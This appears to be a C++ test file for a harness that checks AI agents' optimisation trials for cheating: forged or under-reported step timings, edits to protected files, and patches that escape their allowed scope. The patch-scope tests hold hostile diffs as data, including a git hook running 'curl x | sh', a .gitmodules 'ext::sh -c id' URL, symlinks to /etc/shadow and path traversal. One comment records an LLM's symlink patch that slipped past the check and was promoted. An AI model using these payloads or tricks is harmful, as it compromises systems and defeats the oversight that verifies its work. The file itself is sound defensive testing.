// The task contract's rules one by one, the patch scope checks, and the
// doctor's statistics.
#include "core/contract.h"

#include "absl/strings/str_format.h"

#include <gtest/gtest.h>

#include <cmath>
#include <cstdio>
#include <random>

#include "core/doctor.h"
#include "models/stats.h"
#include "core/patch_scope.h"

namespace infrarsi {
namespace {

ContractSpec Contract() {
  ContractSpec c;
  c.tokens_per_step = 32768;
  return c;
}

// An honest trial of a real process: one warm-up and three timed steps on
// the reference path, each line arriving 20 ms after its step's timer
// stopped (writing the line, loading the next batch).
TrialEvidence Honest() {
  TrialEvidence e;
  e.agent_clock = true;
  e.poll_interval_s = 0.002;
  const double losses[] = {11.0286, 11.0435, 11.0363, 11.0269};
  double at = 1.0;  // start-up
  for (int i = 0; i < 4; ++i) {
    StepEvidence s;
    s.step = i;
    s.warmup = i == 0;
    s.loss = losses[i] + 3e-4;  // honest settings differ by up to ~5e-4
    s.tokens = 32768;
    s.step_time_s = 0.5;
    at += 0.52;
    s.arrival_s = at;
    e.steps.push_back(s);
  }
  e.wall_s = at + 0.1;
  return e;
}

const std::vector<double> kReference = {11.0286, 11.0435, 11.0363, 11.0269};

ContractReference Reference(int timed_steps = 3) {
  ContractReference r;
  r.losses = kReference;
  r.expected_timed_steps = timed_steps;
  r.tail_s = 0.12;
  return r;
}

TEST(ContractTest, HonestTrialPasses) {
  EXPECT_FALSE(CheckContract(Contract(), Reference(), Honest()).has_value());
}

TEST(ContractTest, ShrunkBatchProbeFromTheH200LandscapeIsCaught) {
  // The probe's measured losses differ by up to 0.0196 and it processed one
  // micro-batch of 4 sequences per step: both rules catch it.
  TrialEvidence e = Honest();
  const double probe[] = {11.0456, 11.0239, 11.0483, 11.0238};
  for (int i = 0; i < 4; ++i) e.steps[i].loss = probe[i];
  auto v = CheckContract(Contract(), Reference(), e);
  ASSERT_TRUE(v.has_value());
  EXPECT_EQ(v->kind, "loss");
  for (auto& s : e.steps) s.tokens = 8192;
  v = CheckContract(Contract(), Reference(), e);
  EXPECT_EQ(v->kind, "tokens_per_step");
  EXPECT_NE(v->reason.find("processed 8192 tokens, the contract says 32768"), std::string::npos);
}

TEST(ContractTest, EachRuleNamesItself) {
  struct Case {
    std::string kind;
    std::function<void(ContractSpec&, TrialEvidence&)> edit;
  };
  const std::vector<Case> cases = {
      {"protected_file", [](ContractSpec&, TrialEvidence& e) { e.protected_changed = {"data.py"}; }},
      {"timed_steps", [](ContractSpec&, TrialEvidence& e) { e.steps.pop_back(); }},
      {"tokens_per_step", [](ContractSpec&, TrialEvidence& e) { e.steps[2].tokens = 16384; }},
      {"instrumentation",
       [](ContractSpec& c, TrialEvidence&) {
         c.data_seed_set = true;
         c.data_seed = 7;
       }},
      {"data_seed",
       [](ContractSpec& c, TrialEvidence& e) {
         c.data_seed_set = true;
         c.data_seed = 7;
         for (auto& s : e.steps) s.data_seed = 8;
       }},
      {"precision",
       [](ContractSpec& c, TrialEvidence& e) {
         c.precision = {"bf16", "tf32"};
         e.steps[1].dtype = "fp8";
       }},
      {"loss_nan", [](ContractSpec&, TrialEvidence& e) { e.steps[2].loss = std::nan(""); }},
      {"loss", [](ContractSpec&, TrialEvidence& e) { e.steps[3].loss += 0.005; }},
      {"timing",  // optimizer step moved outside the timed window
       [](ContractSpec& c, TrialEvidence& e) {
         c.optimizer_in_window = true;
         for (auto& s : e.steps) s.optimizer_steps = s.warmup ? 1 : 0;
       }},
      {"timing",  // self-reported step time smaller than it took
       [](ContractSpec&, TrialEvidence& e) { e.steps[2].step_time_s = 0.1; }},
      {"timing",  // steps claim more time than the whole trial ran
       [](ContractSpec&, TrialEvidence& e) {
         e.agent_clock = false;
         e.wall_s = 1.0;
       }},
      {"instrumentation",  // a line the agent's clock did not see arrive
       [](ContractSpec&, TrialEvidence& e) { e.steps[2].arrival_s = 0; }},
  };
  for (const Case& c : cases) {
    ContractSpec spec = Contract();
    TrialEvidence e = Honest();
    c.edit(spec, e);
    auto v = CheckContract(spec, Reference(), e);
    ASSERT_TRUE(v.has_value()) << c.kind;
    EXPECT_EQ(v->kind, c.kind) << v->reason;
    EXPECT_FALSE(v->reason.empty());
  }
}

// One vocabulary of precision names: a script's own float32 is the
// contract's fp32 (a doctor refused it before), bfloat16 is bf16.
TEST(ContractTest, PrecisionNamesAreOneVocabulary) {
  ContractSpec spec = Contract();
  spec.precision = {"fp32"};
  TrialEvidence e = Honest();
  for (auto& s : e.steps) s.dtype = "float32";
  EXPECT_FALSE(CheckContract(spec, Reference(), e).has_value());
  spec.precision = {"bfloat16"};
  for (auto& s : e.steps) s.dtype = "bf16";
  EXPECT_FALSE(CheckContract(spec, Reference(), e).has_value());
  e.steps[2].dtype = "float16";
  auto v = CheckContract(spec, Reference(), e);
  ASSERT_TRUE(v.has_value());
  EXPECT_EQ(v->kind, "precision");
  EXPECT_EQ(CanonicalPrecision("torch.bfloat16"), "bf16");
  EXPECT_EQ(CanonicalPrecision("Half"), "fp16");
}

// A process whose steps take `step_s` (plus 0.3 ms between them) and whose
// lines claim `took / factor`, read by an agent that polls every `poll`
// seconds (each arrival is late by up to one poll).
TrialEvidence Clocked(double step_s, int timed, double factor, double poll) {
  TrialEvidence e;
  e.agent_clock = true;
  e.poll_interval_s = poll;
  double done = 0.4;  // start-up
  for (int i = 0; i <= timed; ++i) {
    StepEvidence s;
    s.step = i;
    s.warmup = i == 0;
    s.loss = kReference[static_cast<size_t>(std::min(i, 3))];
    s.tokens = 32768;
    done += step_s + 0.0003;
    s.step_time_s = step_s / factor;
    s.arrival_s = done + poll * ((i * 7) % 10) / 10.0;  // read late by 0..0.9 poll
    e.steps.push_back(s);
  }
  e.wall_s = e.steps.back().arrival_s + 0.05;
  return e;
}

ContractReference Steps(int timed) {
  ContractReference r;
  r.expected_timed_steps = timed;
  r.tail_s = 0.06;
  return r;
}

// The slack is applied once per trial, not per step: a short-step trial
// that under-reports is caught at every step length (the old per-step
// slack of 50 ms let anything under ~70 ms through), and an honest one is
// never flagged.
TEST(ContractTest, UnderReportingIsCaughtAtEveryStepLength) {
  struct Length {
    double step_s;
    int timed;
  };
  for (const Length& l : {Length{0.005, 20}, Length{0.02, 5}, Length{0.07, 3}, Length{0.2, 3},
                          Length{1.0, 3}}) {
    SCOPED_TRACE(l.step_s);
    EXPECT_FALSE(CheckContract(Contract(), Steps(l.timed), Clocked(l.step_s, l.timed, 1.0, 0.001)));
    auto v = CheckContract(Contract(), Steps(l.timed), Clocked(l.step_s, l.timed, 2.0, 0.001));
    ASSERT_TRUE(v.has_value());
    EXPECT_EQ(v->kind, "timing");
    EXPECT_NE(v->reason.find("reports faster than it ran"), std::string::npos) << v->reason;
    v = CheckContract(Contract(), Steps(l.timed), Clocked(l.step_s, l.timed, 10.0, 0.001));
    ASSERT_TRUE(v.has_value());
    EXPECT_EQ(v->kind, "timing");
  }
  // Within the tolerance (25%) is not a violation; past it is.
  EXPECT_FALSE(CheckContract(Contract(), Steps(3), Clocked(0.2, 3, 1.2, 0.001)));
  EXPECT_TRUE(CheckContract(Contract(), Steps(3), Clocked(0.2, 3, 1.4, 0.001)));
  // A coarse clock widens the slack, once: 2 x 10 ms on a 45 ms window.
  EXPECT_FALSE(CheckContract(Contract(), Steps(3), Clocked(0.015, 3, 1.6, 0.010)));
  // What counts is how late the two lines bounding the window were read,
  // not the worst read of the trial (a busy moment at start-up, say).
  TrialEvidence e = Clocked(0.015, 3, 1.6, 0.010);
  for (auto& s : e.steps) s.arrival_error_s = 0.0005;
  EXPECT_TRUE(CheckContract(Contract(), Steps(3), e).has_value());
  EXPECT_NEAR(TimeOnAgentClock(e).slack_s, 0.001, 1e-12);
}

TEST(ContractTest, LinesThatArriveTogetherAreCaughtAndSaySo) {
  TrialEvidence e = Clocked(0.2, 3, 5.0, 0.001);
  for (auto& s : e.steps) s.arrival_s = e.wall_s - 0.001;  // all written at exit
  auto v = CheckContract(Contract(), Steps(3), e);
  ASSERT_TRUE(v.has_value());
  EXPECT_EQ(v->kind, "timing");
  EXPECT_NE(v->reason.find("arrived within"), std::string::npos) << v->reason;
  // Honest times written at exit are no better: nothing timed them.
  e = Clocked(0.2, 3, 1.0, 0.001);
  for (auto& s : e.steps) s.arrival_s = e.wall_s - 0.001;
  EXPECT_TRUE(CheckContract(Contract(), Steps(3), e).has_value());
}

// Lines at a steady fake pace of 0.1 s while the work takes 0.3 s a step:
// the process runs on for ~0.8 s after its last line. That tail is charged
// to its steps (no gain from work moved past the last line), and is no
// accusation: an honest run's tail (a checkpoint write, a busy host's
// teardown) varies as much. Before, any tail past the baseline's longest
// was a "timing" violation, and honest trials on a loaded host were
// judged cheats.
TEST(ContractTest, WorkAfterTheLastLineIsChargedNotAccused) {
  TrialEvidence e = Clocked(0.1, 3, 1.0, 0.001);
  e.wall_s += 0.8;
  EXPECT_FALSE(CheckContract(Contract(), Steps(3), e).has_value());
  const AgentClockTiming t = TimeOnAgentClock(e);
  const TailCharge c = ChargeForTail(t, Steps(3));
  EXPECT_NEAR(c.extra_s, t.tail_s - 0.06, 1e-9);
  EXPECT_GT(c.extra_s, 0.78);
  // Charged, its steps take what the work took: ~0.37 s, not the 0.1 s
  // the lines claim.
  EXPECT_NEAR(c.step_time_s, (t.observed_s + c.extra_s) / 3, 1e-9);
  EXPECT_GT(c.step_time_s, 0.35);
  EXPECT_NE(c.note.find("after its last metrics line"), std::string::npos) << c.note;
  // The doctor's own runs have no reference yet: nothing is charged.
  ContractReference first = Steps(3);
  first.tail_s = -1;
  EXPECT_EQ(ChargeForTail(t, first).extra_s, 0);
  // A tail like the baseline's costs nothing.
  e.wall_s -= 0.8;
  EXPECT_EQ(ChargeForTail(TimeOnAgentClock(e), Steps(3)).extra_s, 0);
  // A checkpoint write of any length after honest lines: never a violation.
  for (double checkpoint : {0.5, 3.0, 60.0}) {
    TrialEvidence honest = Clocked(0.2, 3, 1.0, 0.001);
    honest.wall_s += checkpoint;
    EXPECT_FALSE(CheckContract(Contract(), Steps(3), honest).has_value()) << checkpoint;
  }
}

TEST(ContractTest, TheWindowNeedsALineBeforeItsFirstTimedStep) {
  // No warm-up line: the first timed step's start was never seen, so the
  // window starts at its line and leaves it out.
  TrialEvidence e = Clocked(0.2, 3, 1.0, 0.001);
  e.steps.erase(e.steps.begin());
  AgentClockTiming t = TimeOnAgentClock(e);
  ASSERT_TRUE(t.valid) << t.why_not;
  EXPECT_EQ(t.window_steps, 2);
  EXPECT_NEAR(t.observed_s, 0.4, 0.002);
  EXPECT_FALSE(CheckContract(Contract(), Steps(3), e).has_value());
  // Under-reporting every step is still caught on the two it can see.
  for (auto& s : e.steps) s.step_time_s /= 2;
  EXPECT_TRUE(CheckContract(Contract(), Steps(3), e).has_value());
  // One timed step and nothing before it: nothing to time it by.
  e = Clocked(0.2, 1, 1.0, 0.001);
  e.steps.erase(e.steps.begin());
  auto v = CheckContract(Contract(), Steps(1), e);
  ASSERT_TRUE(v.has_value());
  EXPECT_EQ(v->kind, "instrumentation");
  EXPECT_NE(v->reason.find("warm-up"), std::string::npos) << v->reason;
}

TEST(ContractTest, AStepFasterThanTheHardwareIsImpossible) {
  // 6 x 354M params x 32768 tokens on one H200 (989 TFLOP/s bf16): a step
  // cannot take less than ~70 ms.
  ContractReference r = Reference();
  r.flops_per_step = 6 * 354e6 * 32768;
  r.peak_flops = 989e12;
  TrialEvidence e = Honest();
  EXPECT_FALSE(CheckContract(Contract(), r, e).has_value());
  e.agent_clock = false;  // whatever the clock
  e.steps[2].step_time_s = 0.05;
  auto v = CheckContract(Contract(), r, e);
  ASSERT_TRUE(v.has_value());
  EXPECT_EQ(v->kind, "impossible");
  EXPECT_NE(v->reason.find("physically impossible"), std::string::npos) << v->reason;
  EXPECT_NE(v->reason.find("141% MFU"), std::string::npos) << v->reason;
}

TEST(ContractTest, PeakFlopsFollowThePrecisionsASessionMayUse) {
  SessionSpec spec;
  spec.gpu = "H200";
  EXPECT_DOUBLE_EQ(PeakFlopsPerGpu(spec), 1979e12);  // nothing said: fp8 may run
  spec.knobs.push_back({"precision", {"bf16", "tf32"}});
  EXPECT_DOUBLE_EQ(PeakFlopsPerGpu(spec), 989e12);
  spec.knobs[0].values.push_back("fp8");
  EXPECT_DOUBLE_EQ(PeakFlopsPerGpu(spec), 1979e12);
  spec.gpu = "cpu";
  EXPECT_EQ(PeakFlopsPerGpu(spec), 0.0);
  spec.params = 1e9;
  EXPECT_DOUBLE_EQ(SpecFlopsPerToken(spec), 6e9);
  spec.flops_per_token = 7e9;
  EXPECT_DOUBLE_EQ(SpecFlopsPerToken(spec), 7e9);
}

TEST(ContractTest, StepExtraRoundTrips) {
  StepEvidence s;
  s.optimizer_steps = 1;
  s.arrival_s = 12.345678901234567;
  s.data_seed = 1234;
  s.dtype = "bf16";
  StepEvidence back;
  DecodeStepExtra(EncodeStepExtra(s), &back);
  EXPECT_EQ(back.optimizer_steps, 1);
  EXPECT_EQ(back.arrival_s, s.arrival_s);  // every digit: the clock is evidence
  EXPECT_EQ(back.data_seed, 1234);
  EXPECT_EQ(back.dtype, "bf16");
}

// ---- patch scope

constexpr char kEditModel[] = R"(diff --git a/model/attn.py b/model/attn.py
index 1111111..2222222 100644
--- a/model/attn.py
+++ b/model/attn.py
@@ -1 +1 @@
-x = 1
+x = 2
)";

absl::Status Scope(const std::string& diff) {
  auto files = ParsePatchedFiles(diff);
  if (!files.ok()) return files.status();
  return CheckPatchScope("p", *files, {"model/**", "train.py"},
                         {"infrarsi_harness.py", "data.py"});
}

TEST(PatchScopeTest, InScopePatchPasses) {
  auto files = ParsePatchedFiles(kEditModel);
  ASSERT_TRUE(files.ok());
  ASSERT_EQ(files->size(), 1u);
  EXPECT_EQ((*files)[0].path, "model/attn.py");
  EXPECT_TRUE(Scope(kEditModel).ok());
}

TEST(PatchScopeTest, CorpusIsRefusedNamingThePath) {
  struct Case {
    std::string diff, expect;
  };
  const std::vector<Case> cases = {
      // touches the protected harness
      {"--- a/infrarsi_harness.py\n+++ b/infrarsi_harness.py\n@@ -1 +1 @@\n-a\n+b\n",
       "'infrarsi_harness.py' is a protected file"},
      // changes the data seed in the (protected) data pipeline
      {"--- a/data.py\n+++ b/data.py\n@@ -1 +1 @@\n-SEED = 1234\n+SEED = 99\n",
       "'data.py' is a protected file"},
      // escapes through ..
      {"--- a/model/../../etc/passwd\n+++ b/model/../../etc/passwd\n@@ -1 +1 @@\n-a\n+b\n",
       "escapes the editable scope ('..' in the path)"},
      // an absolute path: git reads it as the repository's etc/hosts
      {"--- /etc/hosts\n+++ /etc/hosts\n@@ -1 +1 @@\n-a\n+b\n",
       "'etc/hosts' is outside the editable scope"},
      // a symlink inside the scope pointing anywhere
      {"diff --git a/model/link b/model/link\nnew file mode 120000\nindex 0000000..1111111\n"
       "--- /dev/null\n+++ b/model/link\n@@ -0,0 +1 @@\n+/etc/shadow\n",
       "'model/link' is a symbolic link"},
      // outside every editable glob
      {"--- a/scripts/launch.sh\n+++ b/scripts/launch.sh\n@@ -1 +1 @@\n-a\n+b\n",
       "'scripts/launch.sh' is outside the editable scope"},
      // git's own hooks, even where a glob would take them (model/**)
      {"--- /dev/null\n+++ b/model/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl x | sh\n",
       "is inside the repository's .git folder"},
      {"--- /dev/null\n+++ b/model/.GIT./config\n@@ -0,0 +1 @@\n+[core]\n",
       "is inside the repository's .git folder"},
  };
  for (const Case& c : cases) {
    const absl::Status st = Scope(c.diff);
    ASSERT_FALSE(st.ok()) << c.expect;
    EXPECT_NE(st.message().find(c.expect), std::string::npos) << st.message();
    EXPECT_EQ(st.message().substr(0, 11), "patches[p]:") << st.message();
  }
  EXPECT_FALSE(ParsePatchedFiles("no headers here").ok());
}

// libgit2 reads a mode in any spelling its parser takes ("0120000" is a
// link as "120000" is), and the text check recognised only the literal
// "new file mode 120000": an LLM's patch of that form made train.py a link,
// was promoted at 3.00x and committed. Scope is now decided on libgit2's
// own parse, the one that applies the patch: only regular files, no mode
// changes, no gitlinks, none of git's own files unless named.
TEST(PatchScopeTest, OnlyRegularFilesInAnySpellingOfTheirMode) {
  const auto scope = [](const std::string& diff, std::vector<std::string> editable = {"src/**"}) {
    auto files = ParsePatchedFiles(diff);
    if (!files.ok()) return files.status();
    return CheckPatchScope("p", *files, editable, {"data.py"});
  };
  struct Case {
    std::string diff, expect;
  };
  const std::vector<Case> cases = {
      {"diff --git a/src/train.py b/src/train.py\nnew file mode 0120000\nindex 0000000..1111111\n"
       "--- /dev/null\n+++ b/src/train.py\n@@ -0,0 +1 @@\n+/home/trial/fast.py\n\\ No newline at end of file\n",
       "'src/train.py' is a symbolic link"},
      {"diff --git a/src/train.py b/src/train.py\nold mode 100644\nnew mode 0120000\n",
       "'src/train.py' is a symbolic link"},
      {"diff --git a/src/vendor b/src/vendor\nnew file mode 160000\nindex 0000000..1234567\n"
       "--- /dev/null\n+++ b/src/vendor\n@@ -0,0 +1 @@\n+Subproject commit 1234567890123456789012345678901234567890\n",
       "is a gitlink"},
      {"diff --git a/src/run.sh b/src/run.sh\nold mode 100644\nnew mode 100755\n",
       "changes its mode (100644 -> 100755)"},
      {"diff --git a/src/.gitattributes b/src/.gitattributes\nnew file mode 100644\nindex 0000000..1111111\n"
       "--- /dev/null\n+++ b/src/.gitattributes\n@@ -0,0 +1 @@\n+*.py filter=evil\n",
       "is one of git's own files"},
      {"diff --git a/src/.gitmodules b/src/.gitmodules\nnew file mode 100644\nindex 0000000..1111111\n"
       "--- /dev/null\n+++ b/src/.gitmodules\n@@ -0,0 +1,2 @@\n+[submodule \"x\"]\n+\turl = ext::sh -c id\n",
       "is one of git's own files"},
      // A rename away from a protected file changes it too.
      {"diff --git a/data.py b/src/data.py\nsimilarity index 100%\nrename from data.py\nrename to src/data.py\n",
       "'data.py' is a protected file"},
  };
  for (const Case& c : cases) {
    const absl::Status st = scope(c.diff);
    ASSERT_FALSE(st.ok()) << c.expect;
    EXPECT_NE(st.message().find(c.expect), std::string::npos) << st.message();
  }
  // A .git* file the contract names exactly is a source file like any.
  EXPECT_TRUE(scope(cases[4].diff, {"src/**", "src/.gitattributes"}).ok());
  // An ordinary edit and a new executable script pass.
  EXPECT_TRUE(scope("--- a/src/m.py\n+++ b/src/m.py\n@@ -1 +1 @@\n-a\n+b\n").ok());
  EXPECT_TRUE(scope("diff --git a/src/new.sh b/src/new.sh\nnew file mode 100755\nindex 0000000..1111111\n"
                    "--- /dev/null\n+++ b/src/new.sh\n@@ -0,0 +1 @@\n+echo\n").ok());
  auto files = ParsePatchedFiles(cases[0].diff);
  ASSERT_TRUE(files.ok());
  EXPECT_EQ((*files)[0].new_mode, 0120000u);
  EXPECT_TRUE((*files)[0].symlink);
}

TEST(PatchScopeTest, ControlBytesInPathsAreRefused) {
  // "data.py\0x" is not the protected "data.py" to a string compare, but is
  // to every C API after it: refused outright (found by fuzz_patch).
  const std::vector<PatchedFile> nul = {{std::string("data.py\0x", 9)}};
  const absl::Status st = CheckPatchScope("p", nul, {"**"}, {"data.py"});
  ASSERT_FALSE(st.ok());
  EXPECT_EQ(st.message(), "patches[p]: a path holds a control character (byte 0)");
  EXPECT_TRUE(CheckPatchScope("p", {{"model/a..b.py"}}, {"model/**"}, {}).ok())
      << "'..' inside a name is not a parent directory";
}

TEST(PatchScopeTest, PlainDiffsGetGitHeaders) {
  EXPECT_EQ(GitStyleDiff("--- a/m.py\t2024-01-01\n+++ b/m.py\n@@ -1 +1 @@\n-a\n+b\n"),
            "diff --git a/m.py b/m.py\n--- a/m.py\n+++ b/m.py\n@@ -1 +1 @@\n-a\n+b\n");
  EXPECT_EQ(GitStyleDiff("--- /dev/null\n+++ b/new.py\n@@ -0,0 +1 @@\n+x\n"),
            "diff --git a/new.py b/new.py\nnew file mode 100644\n--- /dev/null\n+++ b/new.py\n"
            "@@ -0,0 +1 @@\n+x\n");
  const std::string git = "diff --git a/m.py b/m.py\nindex 1..2 100644\n--- a/m.py\n+++ b/m.py\n@@ -1 +1 @@\n-a\n+b\n";
  EXPECT_EQ(GitStyleDiff(git), git);
}

TEST(PatchScopeTest, Globs) {
  EXPECT_TRUE(GlobMatch("model/**", "model/a/b.py"));
  EXPECT_TRUE(GlobMatch("model/**", "model/x.py"));
  EXPECT_FALSE(GlobMatch("model/*", "model/a/b.py"));
  EXPECT_TRUE(GlobMatch("*.py", "train.py"));
  EXPECT_FALSE(GlobMatch("*.py", "sub/train.py"));
  EXPECT_TRUE(GlobMatch("**/*.py", "a/b/c.py"));
  EXPECT_TRUE(GlobMatch("tr?in.py", "train.py"));
}

// ---- the doctor's statistics

TEST(DoctorStatsTest, NoiseFloorFormula) {
  // t(0.975, 4) = 2.776; floor = t * cv * sqrt(2/3) for 3 runs per arm.
  EXPECT_NEAR(NoiseFloor(0.01, 3), 2.776 * 0.01 * std::sqrt(2.0 / 3.0), 1e-6);
  EXPECT_GT(NoiseFloor(0.05, 3), NoiseFloor(0.01, 3));
  EXPECT_LT(NoiseFloor(0.01, 10), NoiseFloor(0.01, 3));  // more runs, finer floor
}

TEST(DoctorStatsTest, ReportFindsDriftOutliersAndTheReference) {
  std::vector<DoctorRun> runs;
  for (int i = 0; i < 6; ++i) {
    DoctorRun r;
    r.agent = i < 4 ? "fast" : "slow";
    r.step_time_s = i < 4 ? 1.0 + 0.001 * i : 1.3 + 0.001 * i;
    r.losses = {{0, 10.0}, {1, 9.5}, {2, 9.0 + 1e-4 * i}};
    r.phases = {{"fwd_bwd_s", 0.9}, {"optimizer_s", 0.01}};
    runs.push_back(r);
  }
  const v1::DoctorReport rep = BuildDoctorReport(runs, 3);
  EXPECT_EQ(rep.runs(), 6);
  EXPECT_GT(rep.drift(), 0.1);  // later runs (on the slow host) are slower
  ASSERT_EQ(rep.agents_size(), 2);
  for (const auto& a : rep.agents()) EXPECT_EQ(a.outlier(), a.agent() == "slow") << a.agent();
  ASSERT_EQ(rep.reference_losses_size(), 3);
  EXPECT_DOUBLE_EQ(rep.reference_losses(1), 9.5);
  EXPECT_DOUBLE_EQ(rep.phases_s().at("optimizer_s"), 0.01);
  EXPECT_NEAR(rep.noise_floor(), NoiseFloor(rep.cv(), 3), 1e-12);
  EXPECT_FALSE(rep.suspicious());
  EXPECT_EQ(rep.clock(), "simulated");
  EXPECT_EQ(rep.tail_s(), -1);
}

TEST(DoctorStatsTest, TheFloorNeverGoesBelowWhatTheClocksResolve) {
  std::vector<DoctorRun> runs;
  for (int i = 0; i < 5; ++i) {
    DoctorRun r;
    r.agent = "a";
    r.step_time_s = 0.005 * (1 + 1e-5 * i);  // a very quiet 5 ms step
    r.agent_step_time_s = 0.0052 * (1 + 1e-5 * i);
    r.window_s = 3 * r.agent_step_time_s;
    r.clock_slack_s = 0.001;
    r.tail_s = 0.02 + 0.001 * i;
    r.steps = 4;
    runs.push_back(r);
  }
  const v1::DoctorReport rep = BuildDoctorReport(runs, 3);
  EXPECT_EQ(rep.clock(), "agent");
  EXPECT_NEAR(rep.resolution_floor(), 2 * 0.001 / (3 * 0.0052), 1e-3);
  EXPECT_GE(rep.noise_floor(), rep.resolution_floor());
  EXPECT_GT(rep.noise_floor(), 10 * NoiseFloor(rep.cv(), 3));
  EXPECT_DOUBLE_EQ(rep.tail_s(), 0.024);
  EXPECT_EQ(rep.steps_per_run(), 4);
  // A perfectly quiet simulated baseline still gets the minimum floor.
  std::vector<DoctorRun> sim(3);
  for (size_t i = 0; i < sim.size(); ++i) sim[i].step_time_s = 1.0 + 1e-9 * static_cast<double>(i);
  EXPECT_DOUBLE_EQ(BuildDoctorReport(sim, 3).noise_floor(), kMinNoiseFloor);
}

// Issue 32: a CV of 29% gave a noise floor of 50% and the doctor said
// nothing; a floor that high makes a promotion unlikely, and the doctor
// says what it takes and what lowers it.
TEST(DoctorStatsTest, ANoisyBaselineIsWarnedOfWithWhatLowersTheFloor) {
  std::vector<DoctorRun> runs;
  for (double t : {1.0, 1.4, 0.8, 1.3, 0.9}) {
    DoctorRun r;
    r.agent = "a";
    r.step_time_s = t;
    runs.push_back(r);
  }
  const v1::DoctorReport noisy = BuildDoctorReport(runs, 3);
  ASSERT_GE(noisy.noise_floor(), kNoisyFloor);
  EXPECT_NE(noisy.warning().find("noisy: the noise floor is"), std::string::npos) << noisy.warning();
  EXPECT_NE(noisy.warning().find(absl::StrFormat("at least %.2fx faster", 1 + noisy.noise_floor())),
            std::string::npos)
      << noisy.warning();
  EXPECT_NE(noisy.warning().find("more verification runs (verify.runs, now 3)"), std::string::npos);
  for (DoctorRun& r : runs) r.step_time_s = 1.0 + 0.002 * r.step_time_s;  // a quiet host
  EXPECT_EQ(BuildDoctorReport(runs, 3).warning(), "");
}

TEST(DoctorStatsTest, RunsThatAgreeToTheLastDigitAreSuspicious) {
  std::vector<DoctorRun> runs(3);
  for (auto& r : runs) r.step_time_s = 1.0;
  runs[2].step_time_s = 1.0000001;
  const v1::DoctorReport rep = BuildDoctorReport(runs, 3);
  EXPECT_TRUE(rep.suspicious());
  EXPECT_NE(rep.warning().find("runs 1 and 2"), std::string::npos) << rep.warning();
  EXPECT_NE(rep.warning().find("last digit"), std::string::npos) << rep.warning();
  EXPECT_GT(rep.noise_floor(), 0.0);
}

// A process prints its times to a few digits: two honest runs may print
// the same figure. On the agent's clock they never agree; only that clock
// judges them (an honest baseline was once refused: 0.140085 s twice).
TEST(DoctorStatsTest, PrintedTimesMayCoincideWhereTheAgentsClockDiffers) {
  std::vector<DoctorRun> runs(2);
  for (size_t i = 0; i < runs.size(); ++i) {
    runs[i].step_time_s = 0.140085;  // as printed by both runs
    runs[i].agent_step_time_s = 0.1403 + 1e-7 * static_cast<double>(i);
    runs[i].window_s = 3 * runs[i].agent_step_time_s;
    runs[i].clock_slack_s = 0.001;
    runs[i].steps = 4;
  }
  EXPECT_FALSE(BuildDoctorReport(runs, 2).suspicious()) << BuildDoctorReport(runs, 2).warning();
  // The same agent's-clock figure twice is what a forger sends.
  runs[1].agent_step_time_s = runs[0].agent_step_time_s;
  const v1::DoctorReport forged = BuildDoctorReport(runs, 2);
  EXPECT_TRUE(forged.suspicious());
  EXPECT_NE(forged.warning().find("on the agent's clock"), std::string::npos) << forged.warning();
}

VerifyPair Pair(double base_step, double cand_step, double base_whole, double cand_whole) {
  VerifyPair p;
  p.base = {base_step, base_step * 1.01, 3 * base_step * 1.01, base_whole};
  p.cand = {cand_step, cand_step * 1.01, 3 * cand_step * 1.01, cand_whole};
  return p;
}

TEST(DoctorStatsTest, OnTheAgentsClockAGainMustHoldOverTheWholeRun) {
  VerifyRules rules;
  rules.noise_floor = 0.02;
  rules.agent_clock = true;
  // Honest: 1.0 -> 0.5 s a step; three steps save ~1.5 s, and so does the
  // whole run (start-up of 2 s on both sides).
  const std::vector<VerifyPair> honest = {Pair(1.0, 0.5, 6.0, 4.5), Pair(1.01, 0.501, 6.03, 4.52),
                                          Pair(0.99, 0.499, 5.98, 4.49)};
  CandidateVerdict v = JudgeCandidate(honest, rules);
  EXPECT_TRUE(v.cleared) << v.reason;
  EXPECT_NEAR(v.estimate.speedup, 2.0, 0.01);
  EXPECT_NEAR(v.whole.speedup, 6.0 / 4.5, 0.01);
  EXPECT_NEAR(v.reported.speedup, 2.0, 0.01);
  // The same window, with the work moved into the warm-up: the whole run
  // takes as long as the baseline's.
  const std::vector<VerifyPair> moved = {Pair(1.0, 0.5, 6.0, 6.01), Pair(1.01, 0.501, 6.03, 6.0),
                                         Pair(0.99, 0.499, 5.98, 6.02)};
  v = JudgeCandidate(moved, rules);
  EXPECT_FALSE(v.cleared);
  EXPECT_TRUE(v.implausible);
  EXPECT_NE(v.reason.find("vanishes over the whole run"), std::string::npos) << v.reason;
  // Runs that agree to the last digit are not a result.
  std::vector<VerifyPair> forged = {Pair(1.0, 0.05, 6.0, 1.0), Pair(1.0, 0.05, 6.0, 1.0)};
  v = JudgeCandidate(forged, rules);
  EXPECT_FALSE(v.cleared);
  EXPECT_TRUE(v.implausible);
  EXPECT_NE(v.reason.find("agree to the last digit"), std::string::npos) << v.reason;
  // Nor is anything measured against a suspicious baseline.
  rules.baseline_suspicious = "suspicious: baseline runs 1 and 2 ...";
  v = JudgeCandidate(honest, rules);
  EXPECT_FALSE(v.cleared);
  EXPECT_NE(v.reason.find("not judged"), std::string::npos) << v.reason;
}

// A whole run can read long by what the agent could not see of its ends
// (on Slurm, the controller's lag in saying the job ended: CI judged an
// honest 1.5x candidate a cheat that way on a busy host). Its resolution
// widens the whole-run rule both ways: never implausible for what late
// reads can hide, never confirmed by what late reads of the baseline add.
TEST(DoctorStatsTest, TheWholeRunsResolutionWidensTheRuleBothWays) {
  VerifyRules rules;
  rules.noise_floor = 0.02;
  rules.agent_clock = true;
  auto with = [](VerifyPair p, double base_res, double cand_res) {
    p.base.whole_resolution = base_res;
    p.cand.whole_resolution = cand_res;
    return p;
  };
  // Honest: 0.15 -> 0.10 s a step saves 0.15 s per run in the window and
  // over the whole run, but each candidate run's end was read 0.13-0.15 s
  // late (the baseline's on time): the whole runs show 0.00-0.02 s saved.
  const std::vector<VerifyPair> late = {Pair(0.15, 0.10, 2.00, 1.85 + 0.14),
                                        Pair(0.151, 0.101, 2.01, 1.86 + 0.15),
                                        Pair(0.149, 0.099, 1.99, 1.84 + 0.13)};
  CandidateVerdict v = JudgeCandidate(late, rules);
  EXPECT_TRUE(v.implausible) << "without the resolution the late reads read as a cheat: " << v.reason;
  std::vector<VerifyPair> seen;
  for (const VerifyPair& p : late) seen.push_back(with(p, 0.02, 0.2));
  v = JudgeCandidate(seen, rules);
  EXPECT_FALSE(v.implausible) << v.reason;
  EXPECT_TRUE(v.unconfirmed) << v.reason;
  EXPECT_FALSE(v.cleared) << v.reason;
